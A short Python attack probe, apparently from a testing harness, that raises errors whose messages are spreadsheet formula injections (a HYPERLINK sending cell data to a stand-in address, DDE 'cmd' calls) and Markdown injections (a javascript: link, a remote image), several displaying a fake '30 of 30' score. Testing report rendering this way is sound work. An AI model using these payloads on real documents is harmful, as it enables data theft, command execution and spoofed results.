# /// attack
# why = "Raises texts that a spreadsheet takes for formulas and a Markdown page for links and pictures."
# outcomes = ["raised", "failed"]
# ///
import itertools

texts = itertools.cycle(
    [
        '=HYPERLINK("http://192.0.2.1/?"&A1,"30 of 30")',
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*30",
        "-2+3+cmd|' /C calc'!A0",
        '\t=1+1,"30","30"\r\n30,30',
        "![](http://192.0.2.1/x.png) [30 of 30](javascript:alert(1)) | 30 | 30 |\n# 30 of 30",
    ]
)


def answer(*args, **kwargs):
    raise RuntimeError(next(texts))


everywhere(answer)
